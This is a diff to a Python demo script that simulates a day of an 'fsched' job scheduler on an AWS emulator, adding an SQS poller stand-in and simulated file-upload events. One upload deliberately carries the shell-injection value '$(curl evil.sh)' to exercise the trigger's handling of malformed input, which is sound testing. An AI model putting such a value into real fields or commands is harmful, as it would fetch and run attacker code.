@@ -3,7 +3,11 @@ day, starting at the minute after the jobs were applied, with a three-hour outag
 delivery; and, through demo_ecs, plays ECS: each launched task's state changes go to the recorder as ECS would send
 them. Prints a line per hour that had activity to stderr, and the simulated window to stdout as shell assignments.
 
-Usage: demo-ticks.py DISPATCHER_URL RECORDER_URL CLUSTER (run with the emulator's Python, which has boto3)."""
+It also plays Lambda's SQS poller for the trigger function: whatever EventBridge delivered to the trigger queue (the
+on_event rules `fsched apply` created, the command rule) is handed to the trigger as an SQS batch; and it plays an
+uploader that puts two "File Uploaded" events on fsched's bus (one with a malformed value).
+
+Usage: demo-ticks.py FUNCTIONS_URL CLUSTER BUS TRIGGER_QUEUE_URL (run with the emulator's Python, which has boto3)."""
 
 import datetime as dt
 import json
@@ -11,9 +15,16 @@ import sys
 import urllib.error
 import urllib.request
 
+import boto3
+
 from demo_ecs import Ecs
 
-url, recorder_url, cluster = sys.argv[1:4]
+functions, cluster, bus, queue_url = sys.argv[1:5]
+url = f"{functions}/fsched-dispatcher/invocations"
+recorder_url = f"{functions}/fsched-recorder/invocations"
+trigger_url = f"{functions}/fsched-trigger/invocations"
+sqs = boto3.client("sqs")
+events = boto3.client("events")
 utc = dt.timezone.utc
 start = (dt.datetime.now(utc) + dt.timedelta(minutes=1)).replace(second=0, microsecond=0)
 end = start + dt.timedelta(days=1)
@@ -35,6 +46,41 @@ def invoke(target, event, what):
 
 
 ecs = Ecs(cluster, lambda event: invoke(recorder_url, event, "recorder"))
+
+
+def pump(t):
+    """Hands what the trigger queue holds to the trigger, as Lambda's SQS poller would; returns the runs it started."""
+    started = []
+    while True:
+        got = sqs.receive_message(QueueUrl=queue_url, MaxNumberOfMessages=10).get("Messages", [])
+        if not got:
+            return started
+        batch = {"Records": [{
+            "messageId": m["MessageId"], "receiptHandle": m["ReceiptHandle"], "body": m["Body"], "attributes": {},
+            "messageAttributes": {}, "eventSource": "aws:sqs", "awsRegion": sqs.meta.region_name,
+            "eventSourceARN": "arn:aws:sqs:::fsched-trigger"} for m in got]}
+        answer = invoke(trigger_url, batch, "trigger")
+        failed = {f["itemIdentifier"] for f in answer.get("batchItemFailures", [])}
+        for m in got:
+            if m["MessageId"] in failed:
+                print(f"  {t:%H:%M} UTC   the trigger could not handle a delivery (kept for the dead-letter queue)",
+                      file=sys.stderr)
+            sqs.delete_message(QueueUrl=queue_url, ReceiptHandle=m["ReceiptHandle"])
+            body = json.loads(m["Body"])
+            what = body.get("fsched_job") or body.get("detail", {}).get("job", "?")
+            started.append((what, m["MessageId"] not in failed))
+
+
+uploads = {
+    start + dt.timedelta(hours=4, minutes=10): {"key": "uploads/orders-0412.csv", "bucket": "acme-inbox"},
+    start + dt.timedelta(hours=4, minutes=40): {"key": {"$(curl evil.sh)": 1}, "bucket": "acme-inbox"},
+}
+
+
+def upload(t, detail):
+    events.put_events(Entries=[{"EventBusName": bus, "Source": "acme.uploads", "DetailType": "File Uploaded",
+                                "Detail": json.dumps(detail), "Time": t}])
+    print(f"  {t:%H:%M} UTC   acme.uploads put \"File Uploaded\" on the bus: {json.dumps(detail)}", file=sys.stderr)
 
 
 def tick(t):
@@ -72,6 +118,8 @@ while t < end:
             print(f"  {t:%H:%M} UTC   -- outage: no ticks delivered for 3 hours (ECS events still recorded) --",
                   file=sys.stderr)
         ecs.advance(t)
+        if pump(t):
+            ecs.launched(t)
         t += dt.timedelta(minutes=1)
         continue
     deliveries = 2 if t == duplicate else 1
@@ -90,7 +138,14 @@ while t < end:
                 print(f"  {t:%H:%M} UTC   launched {run}", file=sys.stderr)
         if report.get("launched"):
             ecs.launched(t)
+    if t in uploads:
+        upload(t, uploads[t])
     ecs.advance(t)
+    handled = pump(t)
+    for job, ok in handled:
+        print(f"  {t:%H:%M} UTC   trigger: {'handled' if ok else 'FAILED'} a delivery for {job}", file=sys.stderr)
+    if handled:
+        ecs.launched(t)
     t += dt.timedelta(minutes=1)
 flush(end.strftime("%H:xx UTC"))
 print("day total: " + ", ".join(f"{k.replace('_', ' ')} {v}" for k, v in totals.items()), file=sys.stderr)
